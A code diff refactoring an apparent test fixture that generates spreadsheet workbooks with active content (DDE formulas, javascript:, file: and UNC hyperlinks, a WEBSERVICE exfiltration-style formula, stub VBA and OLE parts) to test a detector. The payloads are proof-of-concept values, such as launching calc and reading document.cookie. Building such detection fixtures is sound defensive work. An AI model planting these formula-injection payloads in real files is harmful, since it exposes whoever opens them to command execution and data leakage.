@@ -92,107 +92,119 @@ function formulaInDataCell(parts: readonly ZipPart[], formula: string): ZipPart[
   return withText(parts, name, xml.replace(whole, next));
 }
 
+/** One row a case: the case without its bytes, and the one edit of the signed workbook it makes. */
+type CaseRow = Omit<ActiveCase, 'bytes'> & { edit: (parts: readonly ZipPart[]) => ZipPart[] };
+type Named = Omit<ActiveCase, 'bytes' | 'editsCell'>;
+
+/** Hyperlinks on A1: only the target differs, and what a reader must call it. */
+const HYPERLINKS: readonly (Named & { target: string })[] = [
+  {
+    id: 'javascript-hyperlink',
+    title: 'a javascript: hyperlink',
+    target: 'javascript:alert(document.cookie)',
+    kind: 'script_link',
+  },
+  {
+    id: 'file-hyperlink',
+    title: 'a file: hyperlink to a program',
+    target: 'file:///C:/Windows/System32/calc.exe',
+    kind: 'external_link',
+  },
+  {
+    id: 'unc-hyperlink',
+    title: 'a hyperlink to a file on another computer (UNC)',
+    target: '\\\\198.51.100.7\\share\\loan.xlsx',
+    kind: 'external_link',
+  },
+  {
+    id: 'https-hyperlink',
+    title: 'a web hyperlink (GreenThread writes no links)',
+    target: 'https://example.com/pay-here?loan=1',
+    kind: 'web_link',
+  },
+  {
+    id: 'mailto-hyperlink',
+    title: 'a mail hyperlink',
+    target: 'mailto:officer@example.com?subject=loan',
+    kind: 'web_link',
+  },
+];
+
+/** Formulas in the first data cell, its cached number kept: only the formula and kind differ. */
+const FORMULAS: readonly (Named & { formula: string })[] = [
+  {
+    id: 'dde-formula',
+    title: 'a DDE formula in a data cell that starts a program',
+    formula: "cmd|' /C calc'!A0",
+    kind: 'dde',
+  },
+  {
+    id: 'dde-function',
+    title: 'a DDE() formula in a data cell',
+    formula: 'DDE("cmd","/C calc","A0")',
+    kind: 'dde',
+  },
+  {
+    id: 'webservice-formula',
+    title: 'a WEBSERVICE() formula in a data cell',
+    formula: 'WEBSERVICE("https://example.com/x?d="&A1)+0',
+    kind: 'web_link',
+  },
+  {
+    id: 'hyperlink-formula',
+    title: 'a HYPERLINK() formula in a data cell',
+    formula: 'HYPERLINK("https://example.com","12")',
+    kind: 'web_link',
+  },
+];
+
+const CASES: readonly CaseRow[] = [
+  {
+    id: 'external-link',
+    title: 'a link to a cell of another workbook',
+    edit: (p) => externalLinked(p, false),
+    kind: 'external_link',
+  },
+  {
+    id: 'dde',
+    title: 'a DDE link that starts a program',
+    edit: (p) => externalLinked(p, true),
+    kind: 'dde',
+  },
+  ...HYPERLINKS.map(({ target, ...c }) => ({
+    ...c,
+    edit: (p: readonly ZipPart[]) => hyperlinked(p, target),
+  })),
+  ...FORMULAS.map(({ formula, ...c }) => ({
+    ...c,
+    edit: (p: readonly ZipPart[]) => formulaInDataCell(p, formula),
+    editsCell: true as const,
+  })),
+  {
+    id: 'vba',
+    title: 'a VBA macro project',
+    edit: (p) =>
+      withRels(
+        [...p, { name: 'xl/vbaProject.bin', data: enc('\u00d0\u00cf\u0011\u00e0 not really VBA') }],
+        WB_RELS,
+        `<Relationship Id="rIdGtVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`,
+      ),
+    kind: 'macros',
+  },
+  {
+    id: 'ole-object',
+    title: 'an embedded OLE object',
+    edit: (p) =>
+      withRels(
+        [...p, { name: 'xl/embeddings/oleObject1.bin', data: enc('OLE') }],
+        SHEET_RELS,
+        `<Relationship Id="rIdGtOle" Type="${REL}/oleObject" Target="../embeddings/oleObject1.bin"/>`,
+      ),
+    kind: 'embedded_object',
+  },
+];
+
 export async function activeWorkbooks(): Promise<ActiveCase[]> {
-  const good = await workbookBytes();
-  const parts = unzipParts(good);
-  const make = (edit: (p: readonly ZipPart[]) => ZipPart[]) => zipParts(edit(parts));
-  return [
-    {
-      id: 'external-link',
-      title: 'a link to a cell of another workbook',
-      bytes: make((p) => externalLinked(p, false)),
-      kind: 'external_link',
-    },
-    {
-      id: 'dde',
-      title: 'a DDE link that starts a program',
-      bytes: make((p) => externalLinked(p, true)),
-      kind: 'dde',
-    },
-    {
-      id: 'javascript-hyperlink',
-      title: 'a javascript: hyperlink',
-      bytes: make((p) => hyperlinked(p, 'javascript:alert(document.cookie)')),
-      kind: 'script_link',
-    },
-    {
-      id: 'file-hyperlink',
-      title: 'a file: hyperlink to a program',
-      bytes: make((p) => hyperlinked(p, 'file:///C:/Windows/System32/calc.exe')),
-      kind: 'external_link',
-    },
-    {
-      id: 'unc-hyperlink',
-      title: 'a hyperlink to a file on another computer (UNC)',
-      bytes: make((p) => hyperlinked(p, '\\\\198.51.100.7\\share\\loan.xlsx')),
-      kind: 'external_link',
-    },
-    {
-      id: 'https-hyperlink',
-      title: 'a web hyperlink (GreenThread writes no links)',
-      bytes: make((p) => hyperlinked(p, 'https://example.com/pay-here?loan=1')),
-      kind: 'web_link',
-    },
-    {
-      id: 'mailto-hyperlink',
-      title: 'a mail hyperlink',
-      bytes: make((p) => hyperlinked(p, 'mailto:officer@example.com?subject=loan')),
-      kind: 'web_link',
-    },
-    {
-      id: 'dde-formula',
-      title: 'a DDE formula in a data cell that starts a program',
-      bytes: make((p) => formulaInDataCell(p, "cmd|' /C calc'!A0")),
-      kind: 'dde',
-      editsCell: true,
-    },
-    {
-      id: 'dde-function',
-      title: 'a DDE() formula in a data cell',
-      bytes: make((p) => formulaInDataCell(p, 'DDE("cmd","/C calc","A0")')),
-      kind: 'dde',
-      editsCell: true,
-    },
-    {
-      id: 'webservice-formula',
-      title: 'a WEBSERVICE() formula in a data cell',
-      bytes: make((p) => formulaInDataCell(p, 'WEBSERVICE("https://example.com/x?d="&A1)+0')),
-      kind: 'web_link',
-      editsCell: true,
-    },
-    {
-      id: 'hyperlink-formula',
-      title: 'a HYPERLINK() formula in a data cell',
-      bytes: make((p) => formulaInDataCell(p, 'HYPERLINK("https://example.com","12")')),
-      kind: 'web_link',
-      editsCell: true,
-    },
-    {
-      id: 'vba',
-      title: 'a VBA macro project',
-      bytes: make((p) =>
-        withRels(
-          [
-            ...p,
-            { name: 'xl/vbaProject.bin', data: enc('\u00d0\u00cf\u0011\u00e0 not really VBA') },
-          ],
-          WB_RELS,
-          `<Relationship Id="rIdGtVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`,
-        ),
-      ),
-      kind: 'macros',
-    },
-    {
-      id: 'ole-object',
-      title: 'an embedded OLE object',
-      bytes: make((p) =>
-        withRels(
-          [...p, { name: 'xl/embeddings/oleObject1.bin', data: enc('OLE') }],
-          SHEET_RELS,
-          `<Relationship Id="rIdGtOle" Type="${REL}/oleObject" Target="../embeddings/oleObject1.bin"/>`,
-        ),
-      ),
-      kind: 'embedded_object',
-    },
-  ];
+  const parts = unzipParts(await workbookBytes());
+  return CASES.map(({ edit, ...c }) => ({ ...c, bytes: zipParts(edit(parts)) }));
 }
